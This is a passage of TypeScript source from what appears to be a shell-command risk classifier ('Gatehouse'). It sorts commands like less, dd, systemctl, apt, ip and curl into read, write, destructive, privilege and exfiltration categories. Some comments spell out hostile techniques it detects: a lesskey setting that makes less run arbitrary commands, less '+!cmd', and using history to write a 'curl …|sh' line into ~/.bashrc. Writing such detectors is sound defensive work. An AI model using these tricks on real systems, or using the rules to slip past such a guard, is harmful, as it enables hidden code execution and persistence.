  if (hasAny(o, 'c', 'stdout', 'to-stdout', 'l', 'list', 't', 'test')) return out;
  return withCats(
    name,
    W,
    writeTargets(o.operands, ctx),
    out.categories.filter((c) => c !== 'read'),
  );
};

const unzip: Rule = (args, name, ctx) => {
  const o = scanOptions(args, { shortValued: 'dxP' });
  if (hasAny(o, 'l', 'v', 'Z', 't', 'p', 'c') && !o.dynamic) return verdict(name, R);
  return verdict(
    name,
    [...new Set<ShellCategory>([...W, ...writeTargets(o.values.get('d') ?? [], ctx), 'unknown'])],
    `${name} writes the files and links the archive names, not the command line`,
  );
};

const dd: Rule = (args, name, ctx) => {
  const out = args.find((a) => a.value.startsWith('of='));
  if (out === undefined) return verdict(name, args.some((a) => a.dynamic) ? U : R);
  const target = { ...out, value: out.value.slice(3) };
  const risk = out.dynamic ? 'unknown' : ctx.writeRisk(target);
  if (risk === 'harmless') return verdict(name, R);
  return verdict(name, D, 'dd overwrites its output in place');
};

const sortLike: Rule = (args, name, ctx) => {
  const o = scanOptions(args, {
    shortValued: 'oktSTy',
    longValued: [
      'output',
      'key',
      'field-separator',
      'buffer-size',
      'temporary-directory',
      'files0-from',
      'random-source',
      'parallel',
      'batch-size',
      'compress-program',
    ],
  });
  if (hasAny(o, 'compress-program')) return verdict(name, U, 'sort runs its --compress-program');
  const outputs = [...(o.values.get('o') ?? []), ...(o.values.get('output') ?? [])];
  return withCats(name, R, writeTargets(outputs, ctx), o.dynamic ? U : []);
};

/** Read commands whose second operand is an output file (uniq IN OUT, xxd IN OUT). */
const secondOperandWrites: Rule = (args, name, ctx) => {
  const o = scanOptions(args, {
    shortValued: name === 'xxd' ? 'cglosn' : 'fsw',
    longValued: ['skip-fields', 'skip-chars', 'check-chars', 'group'],
  });
  // A glob or a word made at run time may be several operands, the second of them written.
  const several = o.operands.some((w) => w.dynamic || w.expands);
  return withCats(
    name,
    R,
    writeTargets(o.operands.slice(1, 2), ctx),
    o.dynamic || several ? [...W, ...U] : [],
  );
};

const ripgrep: Rule = (args, name) => {
  const o = scanOptions(args, {
    shortValued: 'efgtTmABCjMrEi',
    longValued: ['pre', 'regexp', 'file', 'glob', 'type', 'replace'],
  });
  if (hasAny(o, 'pre', 'z', 'search-zip')) return verdict(name, U, 'ripgrep runs a preprocessor command');
  return verdict(name, o.dynamic ? U : R);
};

/**
 * less's options (less 590's `less --help`, and later ones): those that only change what is shown;
 * `-o`/`-O` (`--log-file`, `--LOG-FILE`) copy the input to a file; a lesskey file, source or text
 * (`-k`, `--lesskey-src`, `--lesskey-content`) binds keys to commands and sets variables such as
 * LESSOPEN, whose program less runs on every file, with no terminal and no key typed (`less
 * --lesskey-src=/dev/stdin F <<< $'#env\nLESSOPEN=|cmd %s'`).
 */
const LESS_OPTIONS: OptionTable = {
  reads:
    'a A b B c d D e E f F g G h i I j J K L m M n N p P q Q r R s S t T u U V w W x X y z " ~ # ? ' +
    'help search-skip-screen buffers auto-buffers clear-screen dumb color quit-at-eof force ' +
    'quit-if-one-screen hilite-search max-back-scroll ignore-case jump-target status-column ' +
    'quit-on-intr no-lessopen long-prompt line-numbers pattern prompt quiet silent raw-control-chars ' +
    'squeeze-blank-lines chop-long-lines underline-special version hilite-unread tabs no-init ' +
    'max-forw-scroll window quotes tilde shift file-size follow-name incsearch line-num-width mouse ' +
    'no-keypad no-histdups rscroll save-marks status-col-width use-backslash use-color wheel-lines ' +
    'tag tag-file header intr redraw-on-quit search-options exit-follow-on-close show-preproc-errors ' +
    'proc-backspace proc-return proc-tab no-vbell no-search-headers no-number-headers form-feed ' +
    'match-shift status-line wordwrap',
  writes: 'o O log-file',
  does: {
    k: [U, 'less reads a lesskey file: keys bound to commands, and LESSOPEN or other settings'],
    'lesskey-file': [U, 'less reads a lesskey file: keys bound to commands, and LESSOPEN or other settings'],
    'lesskey-src': [U, 'less reads a lesskey source: keys bound to commands, and LESSOPEN or other settings'],
    'lesskey-content': [U, 'less reads lesskey text: keys bound to commands, and LESSOPEN or other settings'],
  },
  caseless: true,
};

/** A `+cmd` less runs at start that only moves or searches: a line number, G, g, F, or `/pattern`. */
const LESS_PLAIN_START = /^\+{1,2}(?:\d*[GgFp%]?|\/[^\x00-\x1f\x7f]*)$/; // eslint-disable-line no-control-regex

const lessLike: Rule = (args, name, ctx) => {
  const o = scanOptions(args, {
    shortValued: 'bDhjkoOpPtTxyz#"',
    longValued: [
      'log-file',
      'LOG-FILE',
      'lesskey-file',
      'lesskey-src',
      'lesskey-content',
      'tag',
      'tag-file',
      'pattern',
      'prompt',
      'buffers',
      'color',
      'max-back-scroll',
      'jump-target',
      'tabs',
      'max-forw-scroll',
      'window',
      'quotes',
      'shift',
      'line-num-width',
      'rscroll',
      'status-col-width',
      'wheel-lines',
      'header',
      'intr',
      'search-options',
    ],
    alsoOption: (w) => w.startsWith('+'),
  });
  // `+cmd` (and `++cmd`) is typed into less as it starts: `+!cmd` runs a shell, `+|` a pipe, `+v`
  // an editor, `+s` saves to a file.
  const start = [...o.flags].filter((f) => f.startsWith('+') && !LESS_PLAIN_START.test(f));
  const v = fromTable(o, name, name, name === 'more' || name === 'zmore' ? MORE_OPTIONS : LESS_OPTIONS, ctx);
  if (start.length === 0) return v;
  return verdict(
    name,
    [...new Set<ShellCategory>([...v.categories, 'unknown'])],
    ...(v.notes ?? []),
    `${name} ${start[0]!.slice(0, 40)} is a command ${name} runs as it starts (+!cmd runs a shell)`,
  );
};

/** util-linux more's options: all only change what is shown (`!cmd` and `v` are keys typed). */
const MORE_OPTIONS: OptionTable = {
  reads:
    'd f l c p s u n e h V 0 1 2 3 4 5 6 7 8 9 silent logical no-pause print-over clean-print squeeze plain lines exit-on-eof help version',
};

// ---------------------------------------------------------------------------------------------------
// Processes, services, system

const kill: Rule = (args, name) => {
  const o = scanOptions(args, { shortValued: 'sn' });
  // kill -l/-L, killall -l and skill -l list signals; pkill -l lists the names of what it kills.
  if (name !== 'pkill' && hasAny(o, 'l', 'L', 'list', 'table') && !o.dynamic) return verdict(name, R);
  return verdict(name, D);
};

const subcommandRule =
  (table: {
    read: readonly string[];
    destructive?: readonly string[];
    privilege?: readonly string[];
    write?: readonly string[];
    exfiltration?: readonly string[];
    /** Categories when no subcommand is given. */
    none?: readonly ShellCategory[];
    spec?: OptionSpec;
    /** Subcommands made of two words (`compose down`, `system prune`). */
    twoWord?: readonly string[];
    /** Subcommands that only show when given nothing more (`systemd-analyze log-level`). */
    readAlone?: readonly string[];
    /** Options (before the subcommand) that run it on another host, over ssh. */
    remote?: readonly string[];
    /** Options (anywhere) that run programs or change things: the command is then `unknown`. */
    unknownOptions?: readonly string[];
  }): Rule =>
  (args, name) => {
    const o = scanOptions(args, { ...table.spec, stopAtOperand: true });
    if (o.dynamic) return verdict(name, U, `the ${name} subcommand is computed at run time`);
    if (table.remote !== undefined && hasAny(o, ...table.remote))
      return verdict(name, [...X, ...U], `${name} runs on another host, over ssh`);
    if (table.unknownOptions !== undefined) {
      const after = scanOptions(o.operands.slice(1), table.spec);
      const bad = table.unknownOptions.find((u) => hasAny(o, u) || hasAny(after, u));
      if (bad !== undefined)
        return verdict(
          name,
          U,
          `${name} ${bad.length === 1 ? '-' : '--'}${bad} may run programs or write files`,
        );
    }
    let sub = o.operands[0]?.value;
    if (sub === undefined) return verdict(name, table.none ?? R);
    const second = o.operands[1];
    if (
      table.twoWord?.includes(sub) === true &&
      second !== undefined &&
      !second.dynamic &&
      !second.value.startsWith('-')
    ) {
      sub = `${sub} ${second.value}`;
    }
    const kind = `${name} ${sub}`;
    const inList = (l: readonly string[] | undefined): boolean => l?.includes(sub) === true;
    if (inList(table.readAlone) && o.operands.length === 1) return verdict(kind, R);
    if (inList(table.destructive)) return verdict(kind, D);
    if (inList(table.privilege)) return verdict(kind, P);
    if (inList(table.exfiltration)) return verdict(kind, X);
    if (inList(table.write)) return verdict(kind, W);
    if (inList(table.read)) return verdict(kind, R);
    return verdict(kind, U, `${kind} is not a subcommand Gatehouse knows`);
  };

const systemctl = subcommandRule({
  spec: {
    shortValued: 'tpPHMnos',
    longValued: [
      'type',
      'property',
      'host',
      'machine',
      'lines',
      'output',
      'signal',
      'state',
      'job-mode',
      'root',
      'kill-whom',
      'what',
      'boot-loader-menu',
      'boot-loader-entry',
      'timestamp',
      'message',
      'image',
      'drop-in',
      'reboot-argument',
    ],
  },
  read: [
    'status',
    'show',
    'cat',
    'list-units',
    'list-unit-files',
    'list-timers',
    'list-sockets',
    'list-dependencies',
    'list-jobs',
    'list-automounts',
    'list-paths',
    'list-machines',
    'is-active',
    'is-enabled',
    'is-failed',
    'is-system-running',
    'get-default',
    'help',
    'show-environment',
  ],
  write: [
    'start',
    'restart',
    'reload',
    'try-restart',
    'reload-or-restart',
    'try-reload-or-restart',
    'condrestart',
    'force-reload',
    'enable',
    'reenable',
    'daemon-reload',
    'daemon-reexec',
    'reset-failed',
    'preset',
    'preset-all',
    'link',
    'revert',
    'set-environment',
    'unset-environment',
    'import-environment',
    'add-wants',
    'add-requires',
    'freeze',
    'thaw',
  ],
  destructive: [
    'stop',
    'kill',
    'disable',
    'mask',
    'isolate',
    'halt',
    'poweroff',
    'reboot',
    'kexec',
    'rescue',
    'emergency',
    'suspend',
    'hibernate',
    'hybrid-sleep',
    'suspend-then-hibernate',
    'default',
    'exit',
    'switch-root',
    'clean',
    'soft-reboot',
  ],
  privilege: ['edit', 'set-property', 'set-default', 'bind', 'mount-image'],
  // `-H user@host` runs it on another host over ssh, with this host's own keys.
  remote: ['H', 'host'],
});

const service: Rule = (args, name) => {
  const o = scanOptions(args, { stopAtOperand: true });
  if (hasAny(o, 'status-all', 'help', 'version', 'h')) return verdict(name, R);
  if (o.dynamic || o.operands.some((w) => w.dynamic))
    return verdict(name, U, 'the service action is computed at run time');
  const action = o.operands[1]?.value;
  if (action === undefined) return verdict(name, U, 'service without an action');
  const kind = `service ${action}`;
  if (['status'].includes(action)) return verdict(kind, R);
  if (['start', 'restart', 'reload', 'force-reload', 'try-restart', 'condrestart'].includes(action))
    return verdict(kind, W);
  if (['stop'].includes(action)) return verdict(kind, D);
  return verdict(kind, U, `${kind} is not an action Gatehouse knows`);
};

/**
 * journalctl's options (systemd 252 `journalctl --help`): which take the next word, which take none.
 * `-b` and `-n` take the next word only when it is a boot or a count (`-b -1`, `-n 20`), as
 * journalctl reads them; `--user` is an option of its own, not an abbreviation of `--user-unit`.
 */
const JOURNALCTL_OPTIONS: OptionSpec = {
  shortValued: 'MDSUcutpgoFT',
  shortOptional: 'bn',
  longValued: [
    'machine',
    'directory',
    'file',
    'root',
    'image',
    'namespace',
    'since',
    'until',
    'cursor',
    'after-cursor',
    'cursor-file',
    'unit',
    'user-unit',
    'identifier',
    'exclude-identifier',
    'priority',
    'facility',
    'grep',
    'output',
    'output-fields',
    'field',
    'interval',
    'verify-key',
    'vacuum-size',
    'vacuum-files',
    'vacuum-time',
  ],
  longFlags: [
    'system',
    'user',
    'merge',
    'dmesg',
    'reverse',
    'show-cursor',
    'utc',
    'catalog',
    'no-hostname',
    'no-full',
    'all',
    'follow',
    'no-tail',
    'quiet',
    'no-pager',
    'pager-end',
    'force',
    'help',
    'version',
    'fields',
    'list-boots',
    'disk-usage',
    'verify',
    'sync',
    'relinquish-var',
    'smart-relinquish-var',
    'flush',
    'rotate',
    'header',
    'list-catalog',
    'dump-catalog',
    'update-catalog',
    'setup-keys',
    'new-id128',
    'list-namespaces',
  ],
};
/** journalctl's options that remove journal files, or write or change the journal. */
const JOURNALCTL_DESTROYS = ['vacuum-size', 'vacuum-time', 'vacuum-files', 'rotate'];
const JOURNALCTL_WRITES = [
  'flush',
  'sync',
  'relinquish-var',
  'smart-relinquish-var',
  'setup-keys',
  'update-catalog',
];

const journalctl: Rule = (args, name, ctx) => {
  // `-b -1`, `--lines 20`: the boot or count is the option's value, joined to it.
  const words: WordValue[] = [];
  for (let i = 0; i < args.length; i++) {
    const w = args[i]!;
    const next = args[i + 1];
    const m = w.dynamic ? null : /^(?:-[A-Za-z]*([bn])|--(boot|lines))$/.exec(w.value);
    const which = m === null ? undefined : (m[1] ?? m[2]!).startsWith('b') ? 'boot' : 'lines';
    const taken =
      which === 'boot'
        ? /^([+-]?\d+|[0-9a-fA-F]{32}([+-]\d+)?|all)$/
        : which === 'lines'
          ? /^(\+?\d+|all)$/
          : undefined;
    if (taken !== undefined && next !== undefined && !next.dynamic && taken.test(next.value)) {
      words.push(w.value.startsWith('--') ? { ...w, value: `${w.value}=${next.value}` } : w);
      if (!w.value.startsWith('--')) words.push({ ...next, value: `--${which}=${next.value}` });
      i++;
      continue;
    }
    words.push(w);
  }
  const o = scanOptions(words, JOURNALCTL_OPTIONS);
  // A word read here as an option's value that journalctl would read as an option is both: every
  // word that is written like one of the options that change the journal counts, whatever precedes it.
  const end = args.findIndex((w) => !w.dynamic && w.value === '--');
  const written = (names: readonly string[]): boolean =>
    args.slice(0, end === -1 ? args.length : end).some((w) => {
      const m = w.dynamic ? null : /^--([a-z-]+)(=|$)/.exec(w.value);
      return m !== null && names.some((n) => n.startsWith(m[1]!));
    });
  if (hasAny(o, ...JOURNALCTL_DESTROYS) || written(JOURNALCTL_DESTROYS))
    return verdict(`${name} --vacuum`, D);
  if (hasAny(o, ...JOURNALCTL_WRITES) || written(JOURNALCTL_WRITES)) return verdict(name, W);
  // --image=IMG attaches and mounts a disk image (a loop device) to read the journal inside it.
  if (hasAny(o, 'image') || written(['image']))
    return verdict(name, U, `${name} --image mounts a disk image on the host`);
  // --cursor-file=F starts after the cursor F holds, and writes the last one there.
  return withCats(name, R, writeTargets(o.values.get('cursor-file') ?? [], ctx), o.dynamic ? U : []);
};

const dmesg: Rule = (args, name) => {
  const o = scanOptions(args, {
    shortValued: 'fFlnsS',
    longValued: ['facility', 'file', 'level', 'console-level', 'buffer-size', 'time-format'],
  });
  if (hasAny(o, 'c', 'C', 'clear', 'read-clear', 'n', 'console-level', 'D', 'console-off', 'E', 'console-on'))
    return verdict(name, W);
  return verdict(name, o.dynamic ? U : R);
};

const packageManager = (table: {
  read: string[];
  destructive: string[];
  write: string[];
  twoWord?: string[];
  unknownOptions?: string[];
}): Rule =>
  subcommandRule({
    ...(table.twoWord === undefined ? {} : { twoWord: table.twoWord }),
    ...(table.unknownOptions === undefined ? {} : { unknownOptions: table.unknownOptions }),
    spec: {
      shortValued: 'octCrqy',
      longValued: [
        'option',
        'config',
        'target-release',
        'root',
        'installroot',
        'repo',
        'enablerepo',
        'disablerepo',
        'prefix',
        'registry',
      ],
    },
    read: table.read,
    destructive: table.destructive,
    write: table.write,
    none: R,
  });

const apt = packageManager({
  read: [
    'list',
    'show',
    'search',
    'policy',
    'depends',
    'rdepends',
    'showsrc',
    'changelog',
    'madison',
    'help',
    'check',
    'moo',
  ],
  destructive: ['remove', 'purge', 'autoremove', 'autopurge', 'clean', 'autoclean'],
  // -o/-c set any configuration item, some of which name programs apt runs (hooks, a pager);
  // `source -b` builds the package, running its build scripts.
  unknownOptions: ['o', 'option', 'c', 'config-file', 'b', 'compile', 'build'],
  write: [
    // download and source write files in the working directory.
    'download',
    'source',
    'install',
    'reinstall',
    'upgrade',
    'full-upgrade',
    'dist-upgrade',
    'update',
    'satisfy',
    'build-dep',
    'edit-sources',
    'mark',
  ],
});
const yum = packageManager({
  unknownOptions: ['setopt', 'c', 'config'],
  read: [
    'list',
    'info',
    'search',
    'provides',
    'whatprovides',
    'repolist',
    'check-update',
    'history',
    'deplist',
    'repoquery',
    'help',
    'makecache',
  ],
  destructive: ['remove', 'erase', 'autoremove', 'clean', 'history undo'],
  write: [
    'install',
    'reinstall',
    'update',
    'upgrade',
    'downgrade',
    'distro-sync',
    'groupinstall',
    'localinstall',
    'swap',
  ],
});
const apk = packageManager({
  read: ['info', 'search', 'list', 'policy', 'stats', 'dot', 'verify', 'audit', 'version'],
  destructive: ['del', 'cache'],
  write: ['add', 'update', 'upgrade', 'fix', 'fetch'],
});
const pip = packageManager({
  twoWord: ['config'],
  read: [
    'list',
    'show',
    'freeze',
    'check',
    'search',
    'help',
    'config list',
    'config get',
    'config debug',
    'debug',
    'inspect',
    'index',
    'hash',
  ],
  destructive: ['uninstall'],
  write: ['install', 'download', 'wheel', 'cache', 'config set', 'config unset'],
  // --log writes a log file; `config edit` runs an editor.
  unknownOptions: ['log', 'editor'],
});

const dpkg: Rule = (args, name) => {
  const o = scanOptions(args, { longValued: ['root', 'admindir', 'instdir', 'status-fd', 'log'] });
  if (hasAny(o, 'r', 'remove', 'P', 'purge')) return verdict(`${name} --remove`, D);
  if (
    hasAny(
      o,
      'i',
      'install',
      'unpack',
      'configure',
      'set-selections',
      'clear-selections',
      'add-architecture',
      'remove-architecture',
    )
  )
    return verdict(`${name} --install`, W);
  if (
    hasAny(
      o,
      'l',
      'list',
      'L',
      'listfiles',
      's',
      'status',
      'S',
      'search',
      'p',
      'print-avail',
      'get-selections',
      'print-architecture',
      'version',
      'help',
      'C',
      'audit',
      'V',
      'verify',
      'c',
      'contents',
      'I',
      'info',
      'f',
      'field',
    )
  )
    return verdict(name, R);
  return verdict(name, U, 'dpkg without a recognised action');
};

const rpm: Rule = (args, name) => {
  const o = scanOptions(args, {
    shortValued: 'DE',
    longValued: ['root', 'dbpath', 'define', 'eval', 'macros', 'rcfile', 'pipe', 'load'],
  });
  // Macros run commands (`%(cmd)`, `%{lua:…}`): --eval, --define, macro and rc files; --pipe runs one.
  if (hasAny(o, 'D', 'define', 'E', 'eval', 'macros', 'rcfile', 'pipe', 'load'))
    return verdict(name, U, 'rpm expands macros or pipes its output to a command');
  if (hasAny(o, 'e', 'erase')) return verdict(`${name} -e`, D);
  if (hasAny(o, 'i', 'install', 'U', 'upgrade', 'F', 'freshen', 'import', 'rebuilddb'))
    return verdict(`${name} -i`, W);
  if (hasAny(o, 'q', 'query', 'V', 'verify', 'K', 'checksig', 'version', 'help', 'showrc'))
    return verdict(name, R);
  return verdict(name, U, 'rpm without a recognised mode');
};

const crontab: Rule = (args, name) => {
  const o = scanOptions(args, { shortValued: 'uT' });
  if (hasAny(o, 'r')) return verdict(`${name} -r`, D);
  if (hasAny(o, 'l')) return verdict(`${name} -l`, R);
  return verdict(`${name} -e`, P, 'a crontab runs commands later, outside any session');
};

const firewall =
  (readFlags: readonly string[]): Rule =>
  (args, name) => {
    const o = scanOptions(args, { shortValued: 'tNXPAIDRZFCEw', longValued: ['table', 'wait'] });
    // Only list-style invocations read; anything else changes packet filtering.
    const listing = hasAny(o, ...readFlags);
    const mutating = hasAny(
      o,
      'A',
      'append',
      'I',
      'insert',
      'D',
      'delete',
      'R',
      'replace',
      'F',
      'flush',
      'X',
      'delete-chain',
      'P',
      'policy',
      'N',
      'new-chain',
      'Z',
      'zero',
      'E',
      'rename-chain',
    );
    if (listing && !mutating && !o.dynamic) return verdict(`${name} -L`, R);
    return verdict(name, D, 'changes packet filtering: can cut the host off the network');
  };

const nft: Rule = (args, name) => {
  const o = scanOptions(args, { shortValued: 'fIdc', stopAtOperand: true });
  if (hasAny(o, 'f', 'file')) return verdict(name, D, 'nft runs a ruleset file');
  const verb = o.operands[0];
  if (
    verb !== undefined &&
    !verb.dynamic &&
    (verb.value === 'list' || verb.value === 'describe' || verb.value === 'monitor')
  ) {
    return verdict(`${name} ${verb.value}`, R);
  }
  if (hasAny(o, 'v', 'version', 'h', 'help')) return verdict(name, R);
  return verdict(name, D, 'changes packet filtering: can cut the host off the network');
};

/**
 * ip's options that change nothing and take no value, as iproute2 spells them whole (or in the short
 * form its manual gives). iproute2 reads a single-dash option by prefix in its own order — `-n` is
 * `-netns NS`, `-b` `-batch FILE`, `-l` `-loops N`, `-r` may be `-rcvbuf N` — so any other option word
 * cannot be placed, nor the words after it (class 284).
 */
const IP_READ_OPTIONS: ReadonlySet<string> = new Set([
  '-4',
  '-6',
  '-0',
  '-s',
  '-stats',
  '-statistics',
  '-d',
  '-details',
  '-j',
  '-json',
  '-p',
  '-pretty',
  '-br',
  '-brief',
  '-o',
  '-oneline',
  '-h',
  '-human',
  '-human-readable',
  '-iec',
  '-N',
  '-Numeric',
  '-c',
  '-color',
  '-color=always',
  '-color=auto',
  '-color=never',
]);

/**
 * Verbs written out whole that show and change nothing. iproute2 resolves an abbreviated verb by the
 * object's own order of verbs: for a link `s` is `set` (set comes before show), for an address `s` is
 * `show`; `ls` can only be `lst`. An abbreviation is not read as any one verb (class 284).
 */
const IP_SHOW_VERBS: ReadonlySet<string> = new Set(['show', 'list', 'lst', 'ls', 'get', 'help', 'monitor']);
const IP_REMOVE_VERBS: ReadonlySet<string> = new Set(['del', 'delete', 'flush', 'd', 'f']);
/** Verbs written out whole that change the host's network (refused as privilege, as before). */
const IP_CHANGE_VERBS: ReadonlySet<string> = new Set([
  'add',
  'set',
  'change',
  'chg',
  'replace',
  'append',
  'prepend',
  'test',
  'exec',
  'restore',
  'save',
  'update',
  'attach',
  'detach',
  'identify',
  'pids',
  'down',
  'up',
]);

const ipCommand: Rule = (args, name) => {
  let i = 0;
  for (; i < args.length; i++) {
    const w = args[i]!;
    if (w.dynamic || w.expands)
      return verdict(name, U, 'ip is given a word made at run time, which may be any option (-batch)');
    if (!w.value.startsWith('-')) break;
    // iproute2 takes `--opt` as `-opt`.
    const opt = w.value.startsWith('--') ? w.value.slice(1) : w.value;
    if (opt === '-') break;
    if (/^-b(?:a(?:t(?:c(?:h)?)?)?)?$/.test(opt) || opt === '-force')
      return verdict(name, P, 'ip runs commands from a batch file');
    if (!IP_READ_OPTIONS.has(opt))
      return verdict(
        name,
        U,
        `ip reads its option ${opt.slice(0, 40)} by prefix, in its own order (-n is -netns, -l takes a value): which option it is, and which words it takes, is iproute2's to say`,
      );
  }
  const words = args.slice(i).map((w) => (w.dynamic || w.expands ? '\0' : w.value));
  if (words.includes('\0')) return verdict(name, U, 'the ip command is computed at run time');
  const verb = words[1];
  const kind = words[0] === undefined ? name : `${name} ${words[0]}${verb === undefined ? '' : ` ${verb}`}`;
  if (verb === undefined) return verdict(kind, R);
  if (IP_REMOVE_VERBS.has(verb)) return verdict(kind, D);
  if (IP_SHOW_VERBS.has(verb)) return verdict(kind, R);
  if (words[0] !== '' && 'link'.startsWith(words[0]!) && words.includes('down')) return verdict(kind, D);
  if (IP_CHANGE_VERBS.has(verb)) return verdict(kind, P);
  return verdict(
    kind,
    U,
    `ip resolves the verb ${verb.slice(0, 40)} by the object's own order of verbs (\`ip l s\` is \`ip link set\`): write it out whole (show, list, get)`,
  );
};

const netConfig: Rule = (args, name) => {
  const o = scanOptions(args);
  if (o.operands.length === 0 && !o.dynamic) return verdict(name, R);
  if (name === 'arp' && hasAny(o, 'd', 'delete', 's', 'set', 'f', 'file')) return verdict(name, P);
  if (name === 'arp' || (name === 'route' && o.operands.length === 0))
    return verdict(name, o.dynamic ? U : R);
  if (name === 'ifconfig' && o.operands.length === 1 && !o.dynamic) return verdict(name, R);
  return verdict(name, P);
};

const hostnameRule: Rule = (args, name) => {
  const o = scanOptions(args, { shortValued: 'F', longValued: ['file'] });
  if (o.operands.length > 0 || hasAny(o, 'F', 'file', 'b', 'boot') || o.dynamic)
    return verdict(`${name} set`, P);
  return verdict(name, R);
};

const dateRule: Rule = (args, name) => {
  const o = scanOptions(args, { shortValued: 'dfrsI', longValued: ['date', 'file', 'reference', 'set'] });
  if (hasAny(o, 's', 'set') || o.dynamic) return verdict(`${name} --set`, o.dynamic ? U : P);
  // `date MMDDhhmm` (an operand not starting with +) sets the clock.
  if (o.operands.some((w) => !w.value.startsWith('+'))) return verdict(`${name} --set`, P);
  return verdict(name, R);
};

const sysctl: Rule = (args, name) => {
  const o = scanOptions(args, { shortValued: 'p', longValued: ['load', 'pattern'] });
  if (hasAny(o, 'w', 'write', 'p', 'load', 'system') || o.operands.some((w) => w.value.includes('=')))
    return verdict(`${name} -w`, P);
  return verdict(name, o.dynamic ? U : R);
};

const mountRule: Rule = (args, name) => {
  const o = scanOptions(args, { shortValued: 'tOoLUB', longValued: ['types', 'options'] });
  if (name === 'mount' && o.operands.length === 0 && !hasAny(o, 'a', 'all') && !o.dynamic)
    return verdict(name, R);
  return verdict(name, P);
};

/**
 * A partitioning tool is a read only when every option it is given is one of its own that only shows
 * (`shows`, at least one of them, and `also`), long options written whole. One letter means other things
 * to each tool: sgdisk's `-l` loads a backup table and `-s` sorts, parted's `-s` is script mode (`parted
 * -s DEV rm 1`), and sfdisk does the last action it is given (`sfdisk -l --delete DEV 1` deletes), so
 * a show option beside another option does not make a read (class 285).
 */
const diskTool =
  (shows: readonly string[], also: readonly string[] = [], operands = true): Rule =>
  (args, name) => {
    const o = scanOptions(args);
    const known = new Set([...shows, ...also]);
    const onlyShows =
      !o.dynamic &&
      [...o.short.keys()].every((k) => known.has(k)) &&
      [...o.long].every((l) => known.has(l)) &&
      (operands || o.operands.length === 0) &&
      [...o.short.keys(), ...o.long].some((f) => shows.includes(f));
    if (onlyShows) return verdict(`${name} -l`, R);
    return verdict(name, D, 'rewrites disk partitions or file systems');
  };

const toggles =
  (
    readWhen: (o: ScannedOptions) => boolean,
    otherwise: readonly ShellCategory[],
    spec: OptionSpec = {},
  ): Rule =>
  (args, name) => {
    const o = scanOptions(args, spec);
    return verdict(name, readWhen(o) && !o.dynamic ? R : otherwise);
  };

/**
 * bash's history builtin. `-w FILE` and `-a FILE` write the history list (which `-s` sets to any text)
 * to FILE, judged as a redirection to it (`history -s 'curl …|sh'; history -w ~/.bashrc` writes a
 * start-up file: privilege); without FILE they write $HISTFILE. `-r`/`-n FILE` read. An option
 * computed at run time may be any of these.
 */
const history: Rule = (args, name, ctx) => {
  const o = scanOptions(args, { shortValued: 'd', stopAtOperand: true });
  if (o.dynamic) return verdict(name, U, `${name} with an option computed at run time`);
  if (hasAny(o, 'w', 'a')) {
    const file = o.operands[0];
    const cats = file === undefined ? [] : writeTargets([file], ctx);
    return withCats(name, W, cats);
  }
  if (hasAny(o, 'c', 'd', 's', 'p')) return verdict(name, W);
  return verdict(name, R);
};

/**
 * bash's jobs builtin: `jobs -x COMMAND ARGS…` runs COMMAND (each jobspec in ARGS replaced by its
 * process group), so it is judged as that command; otherwise it lists jobs.
 */
const jobs: Rule = (args, name, ctx) => {
  const o = scanOptions(args, { stopAtOperand: true });
  if (o.dynamic)
    return verdict(name, U, `${name} with an option computed at run time may run a command (-x)`);
  if (!hasAny(o, 'x')) return verdict(name, R);
  if (o.operands.length === 0) return verdict(name, R);
  ctx.nested(o.operands, `${name} -x`);
  return null;
};

// ---------------------------------------------------------------------------------------------------
// Network

/** curl/wget: any host off the loopback interface is exfiltration-shaped (data can leave the host). */
const httpClient: Rule = (args, name, ctx) => {
  const isCurl = name === 'curl';
  const o = scanOptions(
    args,
    isCurl
      ? {
          shortValued: 'AbcCdDeEFhHKmoQrTuUwxXyYz',
          longValued: [
            'url',
            'data',
            'data-raw',
            'data-binary',
            'data-ascii',
            'data-urlencode',
            'json',
            'form',
            'form-string',
            'upload-file',
            'output',
            'request',
            'header',
            'user',
            'user-agent',
            'referer',
            'cookie',
            'cookie-jar',
            'proxy',
            'max-time',
            'connect-timeout',
            'write-out',
            'config',
            'resolve',
            'connect-to',
            'cert',
            'key',
            'cacert',
            'capath',
            'range',
            'continue-at',
            'dump-header',
            'trace',
            'trace-ascii',
            'stderr',
            'output-dir',
            'interface',
            'retry',
            'limit-rate',
            'max-filesize',
            'oauth2-bearer',
            'proto',
            'proto-redir',
            'unix-socket',
            'abstract-unix-socket',
            'variable',
            'expand-url',
            'etag-save',
            'etag-compare',
            'hsts',
            'alt-svc',
            'libcurl',
          ],
        }
      : {
          shortValued: 'OoaPeTtUwiBAR',
          longValued: [
            'output-document',
            'output-file',
            'append-output',
            'directory-prefix',
            'execute',
            'timeout',
            'tries',
            'user-agent',
            'header',
            'post-data',
            'post-file',
            'body-data',
            'body-file',
            'method',
            'input-file',
            'base',
            'user',
            'password',
            'http-user',
            'http-password',
            'load-cookies',
            'save-cookies',
            'wait',
            'accept',
            'reject',
            'level',
            'config',
            'ca-certificate',
            'certificate',
            'private-key',
            'referer',
            'bind-address',
            'warc-file',
            'rejected-log',
            'hsts-file',
          ],
        },
  );
  const cats = new Set<ShellCategory>();
  const urls: WordValue[] = [...o.operands, ...(o.values.get('url') ?? [])];
  if (hasAny(o, 'K', 'config', 'i', 'input-file', 'execute', 'e') || o.dynamic) cats.add('unknown');
  if (urls.length === 0) cats.add(o.operands.length === 0 && !o.dynamic ? 'read' : 'unknown');
  for (const u of urls) {
    if (u.dynamic || u.expands) {
      cats.add('exfiltration');
      continue;
    }
    const host = hostOf(u.value.includes('://') ? u.value : `http://${u.value}`);
    if (host === undefined || !isLoopbackHost(host)) cats.add('exfiltration');
    else cats.add('read');
  }
  // Sending data or a non-GET method to a loopback service changes it.
  const sends = isCurl
    ? hasAny(
        o,
        'd',
        'data',
        'data-raw',
        'data-binary',
        'data-ascii',
        'data-urlencode',
        'json',
        'F',
        'form',
        'form-string',
        'T',
        'upload-file',
      ) ||
      (o.values.get('X') ?? o.values.get('request') ?? []).some(
        (m) => m.dynamic || !['GET', 'HEAD', 'OPTIONS'].includes(m.value.toUpperCase()),
      )
    : hasAny(o, 'post-data', 'post-file', 'body-data', 'body-file', 'method');
  if (sends) cats.add('write');
  // Every file the client writes besides what it fetches, by its options (class 222): curl's trace,
  // error, source-code, ETag, HSTS and Alt-Svc cache files and the directory -O saves into; wget's
  // appended log, cookie jar, WARC archive, rejected-URL log, HSTS database and directory prefix.
  const outputs = isCurl
    ? [
        'o',
        'output',
        'c',
        'cookie-jar',
        'D',
        'dump-header',
        'trace',
        'trace-ascii',
        'stderr',
        'libcurl',
        'etag-save',
        'hsts',
        'alt-svc',
